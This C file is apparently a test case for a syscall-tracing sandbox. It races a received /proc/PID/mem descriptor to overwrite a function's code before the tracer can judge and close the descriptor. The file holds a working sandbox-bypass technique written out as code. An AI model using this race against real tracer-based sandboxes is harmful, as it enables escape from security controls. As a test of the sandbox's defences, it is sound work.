/*
 * Attack: use a received descriptor before the tracer judges it. An
 * untraced helper (mem_fd_server, socket path argv[1]) sends this process a
 * descriptor of its own /proc/PID/mem with SCM_RIGHTS. The kernel installs it
 * at the lowest free number, which the program knows in advance; a sibling
 * thread spins pwrite()ing the code blob over tw_patch_target through that
 * number while the main thread sits in recvmsg. If the sibling writes before
 * the receive's exit is judged (and the descriptor closed), the patched
 * function runs (RAN race_call). argv[2]: how many receives to try (default
 * 200). Prints COUNT <receives tried> and STEP race_recv with the last result.
 */
#include "common.h"

#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

TW_DEFINE_PATCH_TARGET;

static volatile int target_fd = -1, won, stop;

static void *spinner(void *unused)
{
	(void)unused;
	while (!stop) {
		int fd = target_fd;

		if (fd >= 0 && pwrite(fd, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target) ==
				       (ssize_t)sizeof(TW_CODE)) {
			won = 1;
			return NULL;
		}
	}
	return NULL;
}

static int connect_to(const char *path)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX};
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	strncpy(addr.sun_path, path, sizeof(addr.sun_path) - 1);
	if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof(addr)) < 0)
		return -1;
	return s;
}

/*
 * One receive; returns recvmsg's result (errno kept). What arrived stays open
 * until the sibling used it or 100 ms passed (natively the sibling always
 * wins: the descriptor is simply there), then it is closed.
 */
static ssize_t receive_once(int s)
{
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	int data[2], fd = -1;
	struct iovec iov = {.iov_base = data, .iov_len = sizeof(data)};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf,
			     .msg_controllen = sizeof(control.buf)};
	struct cmsghdr *cmsg;
	ssize_t n = recvmsg(s, &msg, MSG_CMSG_CLOEXEC);
	int err = errno;

	for (cmsg = n < 0 ? NULL : CMSG_FIRSTHDR(&msg); cmsg; cmsg = CMSG_NXTHDR(&msg, cmsg))
		if (cmsg->cmsg_level == SOL_SOCKET && cmsg->cmsg_type == SCM_RIGHTS)
			memcpy(&fd, CMSG_DATA(cmsg), sizeof(int));
	for (int waited = 0; fd >= 0 && !won && waited < 100; waited++)
		usleep(1000);
	if (fd >= 0)
		close(fd);
	errno = err;
	return n;
}

int main(int argc, char **argv)
{
	long tries = argc > 2 ? tw_count_arg(argc, argv, 2, "SOCKET [TRIES]") : 200, i;
	pthread_t thread;
	ssize_t n = 0;
	int err = 0;

	tw_init();
	if (argc < 2) {
		fprintf(stderr, "usage: %s SOCKET [TRIES]\n", argv[0]);
		return 2;
	}
	pthread_create(&thread, NULL, spinner, NULL);
	for (i = 0; i < tries && !won; i++) {
		int s = connect_to(argv[1]), next;

		if (s < 0) {
			tw_step("race_connect", "connect", -1, errno);
			break;
		}
		next = dup(0); /* the lowest free number: where the descriptor lands */
		close(next);
		target_fd = next;
		n = receive_once(s);
		err = errno;
		target_fd = -1;
		close(s);
	}
	stop = 1;
	pthread_join(thread, NULL);
	tw_step("race_recv", "recvmsg", n, err);
	tw_emit("COUNT %ld", i);
	if (won)
		tw_run("race_call", (const void *)tw_patch_target);
	return tw_done();
}
